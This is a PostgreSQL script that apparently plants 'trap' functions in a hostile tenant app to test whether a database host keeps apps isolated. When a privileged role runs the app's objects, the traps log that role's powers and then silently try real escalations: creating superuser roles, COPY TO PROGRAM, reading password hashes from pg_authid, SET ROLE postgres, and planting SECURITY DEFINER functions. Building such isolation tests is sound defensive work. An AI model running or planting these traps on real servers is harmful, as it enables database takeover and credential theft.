-- What every trap of the hostile app does when a server runs it: it says in the server's log as whom, and what that login
-- may do beyond the app; where it is no login that was issued to the app, it tries to get out of its role and to keep
-- whatever it gets. It is polite: it sets back the role that it found, and never fails, so that nobody notices.
-- The app's family of names is what its database begins with: alpha, alpha_owner, alpha__new, alpha__loader ...
CREATE SCHEMA trap;

CREATE FUNCTION trap.powers(who name) RETURNS text[] LANGUAGE sql STABLE SET search_path = pg_catalog AS $body$
  SELECT array(
    SELECT flag FROM pg_roles r, LATERAL (VALUES
      ('superuser', r.rolsuper), ('createrole', r.rolcreaterole), ('createdb', r.rolcreatedb),
      ('replication', r.rolreplication), ('bypassrls', r.rolbypassrls)) f (flag, has)
    WHERE r.rolname = who AND has
    UNION ALL
    SELECT 'member of ' || r.rolname FROM pg_roles r
    WHERE r.rolname <> who AND split_part(r.rolname, '_', 1) <> split_part(current_database(), '_', 1)
      AND pg_has_role(who, r.oid, 'MEMBER')
    UNION ALL
    SELECT 'connects to ' || d.datname FROM pg_database d
    WHERE d.datallowconn AND split_part(d.datname, '_', 1) <> split_part(current_database(), '_', 1)
      AND has_database_privilege(who, d.oid, 'CONNECT')
    UNION ALL
    SELECT 'reads ' || c FROM unnest(ARRAY['pg_authid', 'pg_largeobject', 'pg_statistic']) c
    WHERE has_table_privilege(who, c, 'SELECT')
    UNION ALL
    SELECT 'runs ' || p.proname FROM pg_proc p
    WHERE p.pronamespace = 'pg_catalog'::regnamespace AND has_function_privilege(who, p.oid, 'EXECUTE')
      AND p.proname IN ('pg_read_file', 'pg_read_binary_file', 'pg_ls_dir', 'lo_import', 'lo_export', 'pg_reload_conf'))
$body$;

CREATE FUNCTION trap.report(spot text, how text) RETURNS void LANGUAGE plpgsql SET search_path = pg_catalog AS $body$
BEGIN
  RAISE LOG 'hostile-trap %', json_build_object(
    'spot', spot, 'how', how, 'session', session_user, 'current', current_user, 'database', current_database(),
    'application', current_setting('application_name'),
    'powers', (SELECT coalesce(json_agg(DISTINCT p ORDER BY p), '[]'::json)
               FROM unnest(trap.powers(session_user) || trap.powers(current_user)) p));
END $body$;

-- Whether it also makes things in its own place while a set is loaded, by which the set is not what was backed up.
CREATE FUNCTION trap.greedy() RETURNS boolean LANGUAGE sql AS 'SELECT false';

CREATE FUNCTION trap.escalate(spot text, how text) RETURNS void LANGUAGE plpgsql SET search_path = pg_catalog AS $body$
DECLARE
  home text := split_part(current_database(), '_', 1);
  number text := pg_backend_pid()::text;
  attempt text;
  attempts text[] := ARRAY[
    format('CREATE ROLE evil_%s SUPERUSER LOGIN', number),
    format('CREATE ROLE evil_%s_plain LOGIN', number),
    format('ALTER ROLE %I CREATEROLE', home || '_user'),
    format('GRANT beta_owner TO %I', home || '_user'),
    format('GRANT pg_read_all_data TO %I', home || '_user'),
    format('GRANT CONNECT ON DATABASE beta TO %I', home || '_user'),
    format('ALTER DATABASE %I OWNER TO %I', home, home || '_owner'),
    'COPY (SELECT 1) TO PROGRAM ''touch evil_program''',  -- in the server's data folder
    'DO $$ BEGIN EXECUTE format(''COPY (SELECT 1) TO %L'', current_setting(''data_directory'') || ''/evil_file''); END $$',
    'CREATE TEMPORARY TABLE stolen AS SELECT rolpassword FROM pg_authid',
    'SELECT pg_read_file(''PG_VERSION'')',
    'CREATE EVENT TRIGGER evil ON ddl_command_end EXECUTE FUNCTION trap.on_event()'];
  theirs text[] := ARRAY[
    -- what anybody may do in the app's own place, and what must not become somebody else's afterwards
    format('CREATE FUNCTION public.evil_%s() RETURNS boolean LANGUAGE sql SECURITY DEFINER '
           'AS ''SELECT trap.sprung(''''definer'''')''', number),
    format('GRANT EXECUTE ON FUNCTION public.evil_%s() TO PUBLIC', number),
    'CREATE EXTENSION IF NOT EXISTS seg WITH SCHEMA public',
    format('ALTER EXTENSION seg ADD FUNCTION public.evil_%s()', number)];
BEGIN
  FOREACH attempt IN ARRAY attempts LOOP
    BEGIN
      EXECUTE attempt;
      RAISE LOG 'hostile-trap %', json_build_object(
        'spot', spot, 'how', how, 'session', session_user, 'current', current_user, 'database', current_database(),
        'application', current_setting('application_name'), 'powers', json_build_array('did ' || attempt));
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
  IF current_user::text ~ '_owner$' OR NOT trap.greedy() THEN
    RETURN; -- what the owner role makes is the app's own, and would be in the way
  END IF;
  FOREACH attempt IN ARRAY theirs LOOP
    BEGIN
      EXECUTE attempt;
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
END $body$;

-- Whether it is the first time in this session. What is rolled back comes again.
CREATE FUNCTION trap.first(what text) RETURNS boolean LANGUAGE plpgsql SET search_path = pg_catalog AS $body$
DECLARE
  seen text := coalesce(current_setting('trap.seen', true), '');
  key text := md5(concat_ws('|', what, session_user, current_user));
BEGIN
  IF strpos(seen, key) > 0 THEN
    RETURN false;
  END IF;
  PERFORM set_config('trap.seen', seen || key, false);
  RETURN true;
END $body$;

CREATE FUNCTION trap.sprung(spot text) RETURNS boolean LANGUAGE plpgsql SET search_path = pg_catalog AS $body$
DECLARE
  before text := current_setting('role');
  way text;
BEGIN
  IF NOT trap.first(spot) THEN
    RETURN true;
  END IF;
  PERFORM trap.report(spot, 'as called');
  IF session_user::text ~ '^[a-z]+_(user|user_b|migrate|readonly)$' THEN
    RETURN true; -- a login of the app: what it may do is no news
  END IF;
  IF trap.first('escalation') THEN
    PERFORM trap.escalate(spot, 'as called');
  END IF;
  FOREACH way IN ARRAY ARRAY['RESET ROLE', 'SET ROLE NONE', 'RESET SESSION AUTHORIZATION',
      'SET SESSION AUTHORIZATION DEFAULT', 'SET ROLE postgres', 'SET SESSION AUTHORIZATION postgres',
      'SET ROLE plat', 'SET ROLE pg_read_all_data', 'SET ROLE beta_owner'] LOOP
    BEGIN
      EXECUTE way;
      PERFORM trap.report(spot, way);
      IF trap.first('escalation') THEN
        PERFORM trap.escalate(spot, way);
      END IF;
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    BEGIN
      PERFORM set_config('role', before, false);
    EXCEPTION WHEN OTHERS THEN NULL; -- where no role can be set, none was
    END;
  END LOOP;
  RETURN true;
EXCEPTION WHEN OTHERS THEN
  RAISE LOG 'hostile-trap-failed %', SQLERRM;
  RETURN true;
END $body$;

CREATE FUNCTION trap.pure(spot text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $body$
BEGIN
  PERFORM trap.sprung(spot);
  RETURN true;
END $body$;

CREATE FUNCTION trap.number(spot text, value int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $body$
BEGIN
  PERFORM trap.sprung(spot);
  RETURN value;
END $body$;

CREATE FUNCTION trap.word(spot text, value text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $body$
BEGIN
  PERFORM trap.sprung(spot);
  RETURN value;
END $body$;

CREATE FUNCTION trap.on_event() RETURNS event_trigger LANGUAGE plpgsql AS $body$
BEGIN
  PERFORM trap.sprung('event trigger');
END $body$;

CREATE FUNCTION trap.on_row() RETURNS trigger LANGUAGE plpgsql AS $body$
BEGIN
  PERFORM trap.sprung(TG_ARGV[0]);
  RETURN coalesce(NEW, OLD);
END $body$;
